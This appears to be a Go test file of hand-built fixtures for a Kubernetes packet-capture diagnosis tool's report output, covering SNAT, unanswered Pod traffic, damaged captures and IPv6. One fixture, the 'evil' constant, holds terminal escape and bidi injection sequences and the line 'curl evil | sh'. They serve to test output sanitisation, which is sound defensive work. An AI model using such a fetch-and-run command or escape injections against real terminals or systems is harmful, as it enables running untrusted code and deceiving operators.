package report

import (
	"fmt"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/srcproof/srcproof/analyze"
	"github.com/srcproof/srcproof/analyze/cluster"
	"github.com/srcproof/srcproof/capture/wire"
)

// The results that the goldens are made of, written by hand: what analyze concludes is tested there.

var (
	pod    = wire.MustAddr("172.16.0.13")
	node   = wire.MustAddr("10.10.0.3")
	server = wire.MustAddr("10.20.0.10")

	podRole   = cluster.NewRole(cluster.RolePod, "", "", "in --pod-cidr 172.16.0.0/16")
	nodeRole  = exactly(cluster.NewRole(cluster.RoleNode, "", "", "--node-ip 10.10.0.3"))
	otherRole = cluster.NewRole(cluster.RoleOther, "", "", "in none of the cluster's ranges")
)

// exactly is a role that an exact address says.
func exactly(r cluster.Role) cluster.Role {
	r.Exact = true
	return r
}

// at returns the nanoseconds of a moment of the lab's morning.
func at(clock string) int64 {
	t, err := time.Parse(time.RFC3339Nano, "2026-11-30T"+clock+"Z")
	if err != nil {
		panic(err)
	}
	return t.UnixNano()
}

func tcp(src wire.Addr, sport uint16, dst wire.Addr, dport uint16) wire.Tuple {
	return wire.Tuple{Proto: wire.ProtoTCP, Src: src, Dst: dst, SrcPortOrEchoID: sport, DstPortOrEchoID: dport}
}

func echo(src, dst wire.Addr, id uint16) wire.Tuple {
	return wire.Tuple{Proto: wire.ProtoICMP, Query: wire.ICMPEchoRequest, Src: src, Dst: dst, SrcPortOrEchoID: id, DstPortOrEchoID: id}
}

func end(a wire.Addr, port uint16, r cluster.Role) analyze.Endpoint {
	return analyze.Endpoint{Addr: a, Port: port, HasPort: true, Role: r}
}

func endp(a wire.Addr, port uint16, r cluster.Role) *analyze.Endpoint {
	e := end(a, port, r)
	return &e
}

// nodeCapture is a capture of three interfaces: 0 is the uplink if2, 1 the bridge if6, 2 the Pod's if7.
func nodeCapture(file string, packets uint64, from, to string) analyze.CaptureInfo {
	return analyze.CaptureInfo{
		File: file,
		Summary: wire.Summary{
			Format: "pcap", LinkTypes: []uint32{276}, AllInterfaces: true, SnapLen: 262144, Frames: packets, Bytes: packets * 96,
			Interfaces: []wire.Interface{
				{Index: 2, HasIndex: true, LinkType: 276, SnapLen: 262144, Packets: packets / 3},
				{Index: 6, HasIndex: true, LinkType: 276, SnapLen: 262144, Packets: packets / 3},
				{Index: 7, HasIndex: true, LinkType: 276, SnapLen: 262144, Packets: packets - packets/3*2},
			},
			First: at(from), Last: at(to), Complete: true,
		},
		Transmitted: packets / 2,
	}
}

func facts(t testing.TB) *cluster.Facts {
	t.Helper()
	f, err := cluster.New(cluster.Input{
		PodCIDRs: []netip.Prefix{netip.MustParsePrefix("172.16.0.0/16")}, NodeIPs: []netip.Addr{netip.MustParseAddr("10.10.0.3")},
	})
	if err != nil {
		t.Fatal(err)
	}
	return f
}

// before is the trouble: the Pod's own address leaves the node, and nothing comes back.
func before(t testing.TB) *analyze.Result {
	synTuple, pingTuple, nodeTuple := tcp(pod, 43076, server, 80), echo(pod, server, 77), tcp(node, 50112, server, 80)
	noFar := analyze.Unknown{
		Field: "stopped_at", Reason: "no-far-capture", Text: "no far capture",
		Settle: "srcproof compare --near before.pcap --far far.pcap",
	}
	syn := analyze.Request{
		Tuple: synTuple, Way: analyze.Outbound, Client: end(pod, 43076, podRole), Server: end(server, 80, otherRole),
		Egress: endp(pod, 43076, podRole), Source: analyze.PodSourced, Basis: analyze.BasisTranslation,
		Outcome: analyze.RequestOnly, ConnState: "S0", History: "S", Unknown: []analyze.Unknown{noFar},
		Reasons: []analyze.Reason{
			"the SYN came In on if7 and left Out on if2 with the same source, 172.16.0.13:43076",
			"no packet from 10.20.0.10:80 in the 4.1 s after the first SYN",
		},
		First: at("09:30:28.104211917"), Last: at("09:30:31.160339000"), Handshake: -1, RequestsSent: 3, Retransmissions: 2,
		Opening: 2506779599,
		Joins:   []analyze.Join{{From: "pod", To: "egress", Basis: []string{"TCP ISN", "timestamp", "IP ID"}, Confidence: analyze.Exact}},
		Frames: []analyze.FrameRef{
			{Frame: 1, Time: at("09:30:28.104211917"), Iface: 2, Direction: wire.DirIn, Leg: analyze.LegPod, What: "SYN"},
			{Frame: 2, Time: at("09:30:28.104213000"), Iface: 1, Direction: wire.DirIn, Leg: analyze.LegPod, What: "SYN"},
			{Frame: 3, Time: at("09:30:28.104249000"), Iface: 0, Direction: wire.DirOut, Leg: analyze.LegEgress, What: "SYN"},
			{Frame: 6, Time: at("09:30:29.112339000"), Iface: 0, Direction: wire.DirOut, Leg: analyze.LegEgress, What: "SYN again"},
			{Frame: 9, Time: at("09:30:31.160339000"), Iface: 0, Direction: wire.DirOut, Leg: analyze.LegEgress, What: "SYN again"},
		},
		Legs: []analyze.Leg{
			{Kind: analyze.LegPod, Tuple: synTuple, Sent: 3, TTL: 64, Points: []analyze.Point{
				{Iface: 2, RequestDir: wire.DirIn, Sent: 3, FirstRequest: 1}, {Iface: 1, RequestDir: wire.DirIn, Sent: 3, FirstRequest: 2},
			}},
			{Kind: analyze.LegEgress, Tuple: synTuple, Sent: 3, TTL: 63, Points: []analyze.Point{{Iface: 0, RequestDir: wire.DirOut, Sent: 3, FirstRequest: 3}}},
		},
		Findings: []string{"pod-source-unanswered"},
	}
	ping := analyze.Request{
		Tuple: pingTuple, Way: analyze.Outbound, Client: analyze.Endpoint{Addr: pod, Role: podRole}, Server: analyze.Endpoint{Addr: server, Role: otherRole},
		Egress: &analyze.Endpoint{Addr: pod, Role: podRole}, Source: analyze.PodSourced, Basis: analyze.BasisTranslation,
		Outcome: analyze.RequestOnly, ConnState: "OTH", Unknown: []analyze.Unknown{noFar},
		Reasons: []analyze.Reason{"the echo request left Out on if2 with the source 172.16.0.13"},
		First:   at("09:30:32.2"), Last: at("09:30:32.2"), Handshake: -1, RequestsSent: 1, Opening: 77,
		Frames:   []analyze.FrameRef{{Frame: 12, Time: at("09:30:32.2"), Iface: 0, Direction: wire.DirOut, Leg: analyze.LegEgress, What: "request"}},
		Findings: []string{"pod-source-unanswered"},
	}
	own := analyze.Request{
		Tuple: nodeTuple, Way: analyze.Outbound, Client: end(node, 50112, nodeRole), Server: end(server, 80, otherRole),
		Egress: endp(node, 50112, nodeRole), Source: analyze.NodeOwn, Basis: analyze.BasisEgress, Outcome: analyze.HandshakeCompleted,
		ConnState: "SF", History: "ShADadFf", Completed: true, StoppedAt: analyze.StopNone,
		Reasons: []analyze.Reason{"left Out on if2 with the initial TTL 64: this host sent it"},
		First:   at("09:30:32.9"), Last: at("09:30:33.2"), Handshake: 2_100_000, RequestsSent: 5, RepliesSeen: 4, Opening: 91,
		Frames: []analyze.FrameRef{
			{Frame: 13, Time: at("09:30:32.9"), Iface: 0, Direction: wire.DirOut, Leg: analyze.LegEgress, What: "SYN"},
			{Frame: 14, Time: at("09:30:32.902"), Iface: 0, Direction: wire.DirIn, Leg: analyze.LegEgress, What: "SYN-ACK"},
			{Frame: 15, Time: at("09:30:32.9021"), Iface: 0, Direction: wire.DirOut, Leg: analyze.LegEgress, What: "ACK"},
		},
	}
	return &analyze.Result{
		Captures: []analyze.CaptureInfo{nodeCapture("before.pcap", 21, "09:30:28.104211917", "09:30:33.2")},
		Requests: []analyze.Request{syn, ping, own},
		Findings: []analyze.Finding{{
			Code: "pod-source-unanswered", Severity: 2,
			Title: "The Pod's packets leave the node with the Pod's own address, and nothing comes back.",
			Observed: []string{
				"3 SYN (1 request, 2 retransmissions) In on if7 and if6, Out on if2 as 172.16.0.13:43076, ttl 63, frames 3 6 9; no reply of any kind in the 4.1 s after the first SYN.",
				"The node's own request to the same server completed.",
			},
			Reading: []string{
				"the destination lies in the masquerade exclusion list, and the far side cannot answer a Pod address (a return route or a firewall is missing: packets here cannot tell which).",
			},
			Next: []string{
				"1. is it the list?",
				"  srcproof rules --masq-config cm.yaml --iptables save.txt --to 10.20.0.10",
				"2. a capture at 10.20.0.10:  tcpdump -ni any -w far.pcap net 172.16.0.0/16 or host 10.10.0.3",
				"where does it stop?:  srcproof compare --near before.pcap --far far.pcap",
				"remedies: narrow nonMasqueradeCIDRs (the far side then sees node addresses: lists and logs that name Pod addresses stop matching), or give the far side a route for 172.16.0.0/16 (every device on the way must accept the range).",
			},
			Requests: []int{0, 1},
		}},
		Sources: []analyze.SourceCount{
			{Addr: pod, Role: podRole, Requests: 2, Packets: 4}, {Addr: node, Role: nodeRole, Requests: 1, Packets: 5},
		},
		Limits: []string{"before.pcap does not record whether packets were dropped: a packet that is missing may have been lost in the capture."},
		Facts:  facts(t),
	}
}

// after is the remedy: the node translates, and the handshake completes.
func after(t testing.TB) *analyze.Result {
	podTuple, nodeTuple := tcp(pod, 54670, server, 80), tcp(node, 31337, server, 80)
	return &analyze.Result{
		Captures: []analyze.CaptureInfo{nodeCapture("after.pcap", 33, "09:46:38.001", "09:46:38.42")},
		Requests: []analyze.Request{{
			Tuple: podTuple, Way: analyze.Outbound, Client: end(pod, 54670, podRole), Server: end(server, 80, otherRole),
			Egress: endp(node, 31337, nodeRole), Source: analyze.NodeSNATed, Basis: analyze.BasisTranslation,
			Outcome: analyze.HandshakeCompleted, ConnState: "SF", History: "ShADadFf", Completed: true, StoppedAt: analyze.StopNone,
			Reasons: []analyze.Reason{"the SYN came In on if7 from 172.16.0.13:54670 and left Out on if2 as 10.10.0.3:31337, 52 us later (joined by TCP ISN, timestamp, IP ID; exact)"},
			First:   at("09:46:38.001"), Last: at("09:46:38.42"), Handshake: 2_345_678, RequestsSent: 6, RepliesSeen: 5, Opening: 4711,
			Joins: []analyze.Join{{From: "pod", To: "egress", Basis: []string{"TCP ISN", "timestamp", "IP ID"}, Confidence: analyze.Exact}},
			Frames: []analyze.FrameRef{
				{Frame: 1, Time: at("09:46:38.001"), Iface: 2, Direction: wire.DirIn, Leg: analyze.LegPod, What: "SYN"},
				{Frame: 3, Time: at("09:46:38.001052"), Iface: 0, Direction: wire.DirOut, Leg: analyze.LegEgress, What: "SYN"},
				{Frame: 4, Time: at("09:46:38.003"), Iface: 0, Direction: wire.DirIn, Leg: analyze.LegEgress, What: "SYN-ACK"},
				{Frame: 6, Time: at("09:46:38.00302"), Iface: 2, Direction: wire.DirOut, Leg: analyze.LegPod, What: "SYN-ACK"},
				{Frame: 7, Time: at("09:46:38.003345678"), Iface: 2, Direction: wire.DirIn, Leg: analyze.LegPod, What: "ACK"},
			},
			Legs: []analyze.Leg{
				{Kind: analyze.LegPod, Tuple: podTuple, Sent: 6, Replies: 5, TTL: 64, Points: []analyze.Point{
					{Iface: 2, RequestDir: wire.DirIn, ReplyDir: wire.DirOut, Sent: 6, Replies: 5, FirstRequest: 1, FirstReply: 6},
				}},
				{Kind: analyze.LegEgress, Tuple: nodeTuple, Sent: 6, Replies: 5, TTL: 63, Points: []analyze.Point{
					{Iface: 0, RequestDir: wire.DirOut, ReplyDir: wire.DirIn, Sent: 6, Replies: 5, FirstRequest: 3, FirstReply: 4},
				}},
			},
		}},
		Sources: []analyze.SourceCount{{Addr: node, Role: nodeRole, Requests: 1, Packets: 6}},
		Facts:   facts(t),
	}
}

// inside is a capture taken in the Pod: it cannot say what left the node.
func inside(testing.TB) *analyze.Result {
	c := nodeCapture("pod.pcap", 9, "10:00:00", "10:00:00.2")
	c.Summary.LinkTypes, c.Summary.AllInterfaces = []uint32{1}, false
	c.Summary.Interfaces = []wire.Interface{{Name: "eth0", LinkType: 1, Packets: 9, HasDropped: true}}
	c.Summary.Dropped, c.Summary.HasDropped = 0, true
	c.Summary.Filter, c.Summary.HasFilter = "host 10.20.0.10", true
	unknown := []analyze.Unknown{{
		Field: "source", Reason: "pod-side-only",
		Text:   "this capture holds the Pod's side only (initial ttl 64, no outgoing interface). What left the node is not in it.",
		Settle: "Capture on the node:  tcpdump -ni any -w near.pcap host 10.20.0.10",
	}}
	var rs []analyze.Request
	for i := range uint16(3) {
		rs = append(rs, analyze.Request{
			Tuple: tcp(pod, 40000+i, server, 80), Way: analyze.Outbound, Client: end(pod, 40000+i, cluster.Role{}), Server: end(server, 80, cluster.Role{}),
			Outcome: analyze.HandshakeCompleted, StoppedAt: analyze.StopNone, Unknown: unknown, Handshake: 1_000_000, RequestsSent: 3, RepliesSeen: 2,
			First: at("10:00:00"), Last: at("10:00:00.2"), ConnState: "S1", History: "ShA", Opening: uint64(i),
			Reasons: []analyze.Reason{"SYN, SYN-ACK and ACK are in the capture"},
		})
	}
	return &analyze.Result{
		Captures: []analyze.CaptureInfo{c}, Requests: rs,
		Findings: []analyze.Finding{{
			Code: "pod-side-capture-only", Title: "This capture was taken on the Pod's side of the node.",
			Observed: []string{"every packet from 172.16.0.13 has the initial TTL 64 and leaves by the only interface, eth0."},
			Reading:  []string{"a capture inside the Pod always shows the Pod's address: it is not evidence of what left the node."},
			Requests: []int{0, 1, 2},
		}},
	}
}

// busy is a hundred thousand requests, three of them odd.
func busy(n int) *analyze.Result {
	c := nodeCapture("busy.pcapng", uint64(n)*12, "08:00:00", "09:12:30")
	c.Summary.Format = "pcapng (zstd)"
	c.Summary.Dropped, c.Summary.HasDropped = 1204, true
	res := &analyze.Result{Captures: []analyze.CaptureInfo{c}}
	noFar := []analyze.Unknown{{Field: "stopped_at", Reason: "no-far-capture", Text: "no far capture", Settle: "srcproof compare --near busy.pcapng --far far.pcap"}}
	for i := range n {
		client := wire.AddrFrom4([4]byte{172, 16, byte(i % 5), byte(1 + i%50)})
		dst := wire.AddrFrom4([4]byte{10, 20, byte(i % 7), byte(i % 40)})
		port := uint16(1024 + i%60000)
		r := analyze.Request{
			Tuple: tcp(client, port, dst, 443), Way: analyze.Outbound, Client: end(client, port, podRole), Server: end(dst, 443, otherRole),
			Egress: endp(node, port, nodeRole), Source: analyze.NodeSNATed, Basis: analyze.BasisTranslation, Outcome: analyze.HandshakeCompleted,
			ConnState: "SF", History: "ShADadFf", Completed: true, StoppedAt: analyze.StopNone, Handshake: 1_500_000,
			First: at("08:00:00") + int64(i)*1_000_000, Last: at("08:00:01") + int64(i)*1_000_000, RequestsSent: 6, RepliesSeen: 5, Opening: uint64(i),
			Joins:   []analyze.Join{{From: "pod", To: "egress", Basis: []string{"TCP ISN", "timestamp", "IP ID"}, Confidence: analyze.Exact}},
			Reasons: []analyze.Reason{"the SYN came In on if7 and left Out on if2 with another source"},
			Frames: []analyze.FrameRef{
				{Frame: uint64(i)*12 + 1, Time: at("08:00:00") + int64(i)*1_000_000, Iface: 2, Direction: wire.DirIn, Leg: analyze.LegPod, What: "SYN"},
				{Frame: uint64(i)*12 + 2, Time: at("08:00:00") + int64(i)*1_000_050, Iface: 0, Direction: wire.DirOut, Leg: analyze.LegEgress, What: "SYN"},
			},
		}
		switch {
		case i%33_000 == 500:
			r.Egress, r.Source, r.Outcome = endp(client, port, podRole), analyze.PodSourced, analyze.RequestOnly
			r.StoppedAt, r.Unknown, r.Findings = analyze.StopUnknown, noFar, []string{"pod-source-unanswered"}
			r.RepliesSeen, r.Handshake, r.Joins = 0, -1, nil
		case i%100 == 7:
			r.Outcome, r.Handshake = analyze.Refused, -1
		}
		res.Requests = append(res.Requests, r)
	}
	var odd []int
	for i := range res.Requests {
		if res.Requests[i].Source == analyze.PodSourced {
			odd = append(odd, i)
		}
	}
	if len(odd) > 0 {
		res.Findings = []analyze.Finding{{
			Code: "pod-source-unanswered", Severity: 2, Requests: odd,
			Title:    "Some Pods' packets leave the node with the Pod's own address, and nothing comes back.",
			Observed: []string{"4 SYN without a reply of any kind."},
			Reading:  []string{"these destinations lie in the masquerade exclusion list."},
			Next:     []string{"  srcproof rules --masq-config cm.yaml --iptables save.txt --to 10.20.5.20"},
		}}
	}
	for i := range min(30, n) {
		res.Sources = append(res.Sources, analyze.SourceCount{
			Addr: wire.AddrFrom4([4]byte{10, 10, 0, byte(3 + i)}), Role: nodeRole, Requests: uint64(n / (i + 1)), Packets: uint64(n / (i + 1) * 6),
		})
	}
	res.Limits = []string{"busy.pcapng: 1,204 packets were dropped while capturing, so no absence is concluded from it."}
	return res
}

// long is IPv6 everywhere, and names as long as Kubernetes allows.
func long(testing.TB) *analyze.Result {
	client, snat := wire.MustAddr("fd12:3456:789a:bcde:f012:3456:789a:bcde"), wire.MustAddr("2001:db8:aaaa:bbbb:cccc:dddd:eeee:ffff")
	dst := wire.MustAddr("2001:db8:1111:2222:3333:4444:5555:6666")
	name := "a-namespace-of-a-length/" + strings.Repeat("very-long-deployment-name-", 6) + "7d9f8b6c5-x2x9z"
	role := exactly(cluster.NewRole(cluster.RolePod, name, "gke-prod-europe-west1-pool-1-4711abcd-x9z8", ""))
	role.Reused = true
	c := nodeCapture("/home/operator/tickets/CHG0012345/captures/"+strings.Repeat("node-", 20)+"near.pcapng", 12, "23:59:59", "23:59:59.5")
	c.Label = "near"
	c.Summary.Last = at("23:59:59.5") + int64(2*time.Hour)
	c.Summary.SnapLen = 96
	tuple := tcp(client, 43210, dst, 8443)
	return &analyze.Result{
		Captures: []analyze.CaptureInfo{c},
		Requests: []analyze.Request{{
			Tuple: tuple, Way: analyze.Outbound, Client: end(client, 43210, role), Server: end(dst, 8443, otherRole),
			Egress: endp(snat, 61234, nodeRole), Source: analyze.NodeSNATed, Basis: analyze.BasisTranslation, Outcome: analyze.Rejected,
			StoppedAt: analyze.StopBetween, ConnState: "S0", History: "S", Handshake: -1, RequestsSent: 1, Opening: 1,
			First: at("23:59:59"), Last: at("23:59:59.5"),
			ICMP: &analyze.ICMPAnswer{
				About: tcp(snat, 61234, dst, 8443), From: wire.MustAddr("2001:db8:1111:2222:ffff:ffff:ffff:fffe"), FromRole: otherRole, Type: 1, Code: 1, V6: true,
			},
			Joins:    []analyze.Join{{From: "pod", To: "egress", Basis: []string{"TCP ISN", "timestamp"}, Confidence: analyze.Exact}},
			Reasons:  []analyze.Reason{"an ICMPv6 error, administratively prohibited, came from 2001:db8:1111:2222:ffff:ffff:ffff:fffe, which is not the server"},
			Unknown:  []analyze.Unknown{{Field: "direction", Reason: "no-facts", Text: "no fact says what " + dst.String() + " is", Settle: "kubectl get nodes,pods -A -o json"}},
			Findings: []string{"no-return-route"},
			Frames:   []analyze.FrameRef{{Frame: 2, Time: at("23:59:59"), Iface: 0, Direction: wire.DirOut, Leg: analyze.LegEgress, What: "SYN"}},
		}},
		Findings: []analyze.Finding{{
			Code: "no-return-route", Severity: 1, Title: "A router on the way refuses the request of " + client.String() + " to " + dst.String() + ".",
			Observed: []string{"one ICMPv6 error about the SYN of frame 2, from 2001:db8:1111:2222:ffff:ffff:ffff:fffe."},
			Next: []string{
				"ask who runs the router, then capture there:",
				"  tcpdump -ni any -w far.pcap host 2001:db8:aaaa:bbbb:cccc:dddd:eeee:ffff or host 2001:db8:1111:2222:3333:4444:5555:6666 or icmp6",
			},
			Requests: []int{0},
		}},
		Sources: []analyze.SourceCount{{Addr: snat, Role: nodeRole, Requests: 1, Packets: 1}},
	}
}

// evil is what an attacker would put into names: escapes that clear the screen, write a title, turn text around, break
// lines and pretend to be output of ours.
const evil = "\x1b[2J\x1b]0;owned\x07\u202eeth0\u200b\r\n  curl evil | sh\u009b31m\xff|<b>`*"

func hostile(testing.TB) *analyze.Result {
	c := nodeCapture("in\x1b[31mput.pcap", 12, "10:00:00", "10:00:01")
	c.Summary.Interfaces[2].Name = evil
	c.InterfaceNames = []string{"", "", evil}
	c.Summary.Filter, c.Summary.HasFilter = evil, true
	c.Notes = []string{"section comment: " + evil}
	c.Summary.Complete = false
	c.DamageText = "read " + evil + ": packet 12: cut at byte 1200"
	role := cluster.NewRole(cluster.RolePod, "default/"+evil, "", evil)
	return &analyze.Result{
		Captures: []analyze.CaptureInfo{c},
		Requests: []analyze.Request{{
			Tuple: tcp(pod, 40000, server, 80), Way: analyze.Outbound, Client: end(pod, 40000, role), Server: end(server, 80, otherRole),
			Egress: endp(pod, 40000, role), Source: analyze.PodSourced, Basis: analyze.BasisEgress, Outcome: analyze.RequestOnly,
			Reasons: []analyze.Reason{analyze.Reason("seen on " + evil)}, Handshake: -1, First: wire.NoTime, Last: wire.NoTime, RequestsSent: 1,
			Frames:  []analyze.FrameRef{{Frame: 1, Time: wire.NoTime, Iface: 2, Direction: wire.DirIn, Leg: analyze.LegPod, What: "SYN"}},
			Unknown: []analyze.Unknown{{Field: "stopped_at", Reason: "no-far-capture", Text: "no far capture of " + evil, Settle: "  tcpdump -i " + evil}},
		}},
		Findings: []analyze.Finding{{
			Code: "pod-source-answered", Title: "seen on " + evil, Observed: []string{"seen on " + evil}, Reading: []string{evil},
			Next: []string{evil}, Requests: []int{0},
		}},
		Limits: []string{evil},
	}
}

// damaged is a file that was cut: what came before the damage counts, and no absence is concluded.
func damaged(t testing.TB) *analyze.Result {
	res := after(t)
	c := &res.Captures[0]
	c.File, c.Summary.Complete = "cut.pcap", false
	c.Summary.Skipped[wire.SkipNotIP], c.Summary.Skipped[wire.SkipMalformed] = 4, 1
	c.DamageText = "read cut.pcap: packet 34: header cut at byte 4128 of 4135"
	res.Limits = []string{"cut.pcap is damaged: no absence is concluded from it."}
	return res
}

func empty(s wire.Summary) *analyze.Result {
	s.Format, s.LinkTypes = "pcap", []uint32{1}
	s.Interfaces = []wire.Interface{{LinkType: 1}}
	if s.Frames == 0 {
		s.First, s.Last = wire.NoTime, wire.NoTime
	}
	return &analyze.Result{Captures: []analyze.CaptureInfo{{File: "empty.pcap", Summary: s}}}
}

// variants is n requests that share two unknowns, one of them in nine kinds.
func variants(n int) *analyze.Result {
	res := inside(nil)
	one := res.Requests[0]
	res.Requests, res.Findings = nil, nil
	for i := range n {
		r := one
		r.Tuple.SrcPortOrEchoID, r.Client.Port = uint16(i), uint16(i)
		r.Unknown = []analyze.Unknown{
			one.Unknown[0],
			{Field: "stopped_at", Reason: "filter-not-known", Text: fmt.Sprintf("no filter is known that kept port %d", 8000+i%9), Settle: "--near-filter EXPR"},
		}
		res.Requests = append(res.Requests, r)
	}
	return res
}

// neighbourly adds what every link holds: requests that never leave it.
func neighbourly(res *analyze.Result, n int) *analyze.Result {
	for i := range n {
		src := wire.MustAddr(fmt.Sprintf("fe80::%x", i+1))
		dst := wire.MustAddr("ff02::2")
		res.Requests = append(res.Requests, analyze.Request{
			Tuple: wire.Tuple{Proto: wire.ProtoICMP6, Query: 133, Src: src, Dst: dst}, Way: analyze.WayLocal,
			Client: analyze.Endpoint{Addr: src}, Server: analyze.Endpoint{Addr: dst},
			Source: analyze.SourceLocal, Outcome: analyze.RequestOnly, Handshake: -1, RequestsSent: 1, First: at("09:30:28"), Last: at("09:30:28"),
			Unknown: []analyze.Unknown{{Field: "stopped_at", Reason: "delivered-on-this-node", Text: "sent to neighbours on the link: who got it is not covered"}},
		})
	}
	return res
}

// far is the trouble from the other end: the far host answers, and a router rejects the answer.
func far(t testing.TB) *analyze.Result {
	res := before(t)
	c := &res.Captures[0]
	c.File, c.Side, c.Summary.LinkTypes, c.Summary.AllInterfaces = "far.pcap", wire.SideFar, []uint32{1}, false
	c.Summary.Interfaces = []wire.Interface{{LinkType: 1, Packets: 21}}
	res.Findings = []analyze.Finding{{
		Code: "no-return-route", Severity: 2, Title: "The far host answered, and a router rejected the answer: it has no way back.",
		Observed: []string{"172.16.0.13:43076 > 10.20.0.10:80: SYN-ACK seen, never acknowledged"}, Requests: []int{0},
	}}
	res.Sources = nil
	for i := range res.Requests {
		r := &res.Requests[i]
		client := r.Client
		r.Far, r.Egress, r.Basis, r.Legs, r.Joins, r.Frames, r.Unknown, r.Findings = &client, nil, analyze.BasisFar, nil, nil, nil, nil, nil
	}
	r := &res.Requests[0]
	r.Outcome, r.StoppedAt, r.RepliesSeen, r.Findings = analyze.HalfOpen, analyze.StopReturn, 3, []string{"no-return-route"}
	lost := &res.Requests[1]
	lost.Far, lost.Source, lost.Basis = nil, analyze.SourceUnknown, analyze.BasisNone
	return neighbourly(res, 1)
}

// stopped is a node that does not deliver the answer.
func stopped(t testing.TB) *analyze.Result {
	res := after(t)
	for i := range res.Requests {
		res.Requests[i].StoppedAt = analyze.StopNone
	}
	lost := res.Requests[0]
	lost.Tuple.SrcPortOrEchoID, lost.Client.Port = lost.Client.Port+1, lost.Client.Port+1
	lost.Outcome, lost.StoppedAt, lost.Findings = analyze.RequestOnly, analyze.StopNodeIn, []string{"not-delivered-to-pod"}
	res.Requests = append(res.Requests, lost)
	res.Findings = []analyze.Finding{
		{Code: "pod-source-answered", Title: "A note.", Observed: []string{"something ordinary"}, Requests: []int{0}},
		{
			Code: "not-delivered-to-pod", Severity: 2, Title: "The answer reaches the node, and the node does not deliver it to the Pod.",
			Observed: []string{"an answer came in at the node's egress, and nothing went out to the Pod"},
			Next:     []string{"on the node:", "  conntrack -L -d 10.20.0.10"}, Requests: []int{len(res.Requests) - 1},
		},
	}
	return res
}

// noneMatches is what --request leaves that names nothing there is.
func noneMatches(t testing.TB) *analyze.Result {
	sel, err := analyze.ParseSelector("tcp 172.16.0.13 > 10.20.0.10:8080")
	if err != nil {
		t.Fatal(err)
	}
	return before(t).Select(sel)
}

func tunnels(t testing.TB) *analyze.Result {
	res := after(t)
	outer := func(p wire.Proto) wire.Tuple { return wire.Tuple{Proto: p, Src: node, Dst: server} }
	res.Carriers = []analyze.CarrierCount{
		{Tunnel: wire.TunnelIPIP, Tuple: outer(wire.ProtoIPIP), Packets: 9},
		{Tunnel: wire.TunnelGRE, Tuple: outer(wire.ProtoGRE), Packets: 8, Opaque: 3},
		{Tunnel: wire.TunnelESP, Tuple: outer(wire.ProtoESP), Packets: 7, Opaque: 7},
		{Tunnel: wire.TunnelOther, Tuple: outer(115), Packets: 6, Opaque: 6},
	}
	return res
}

// byAddress is n requests of which the same is not known, each of its own address.
func byAddress(n int) *analyze.Result {
	res := inside(nil)
	one := res.Requests[0]
	res.Requests, res.Findings = nil, nil
	for i := range n {
		r := one
		r.Client.Addr = wire.AddrFrom4([4]byte{172, 16, byte(i >> 8), byte(i)})
		r.Tuple.Src = r.Client.Addr
		r.Unknown = []analyze.Unknown{{
			Field: "source", Reason: "role-unknown", Text: "nothing given says whether " + r.Client.Addr.String() + " is a Pod's address", Settle: "--pod-cidr CIDR",
		}}
		res.Requests = append(res.Requests, r)
	}
	return res
}
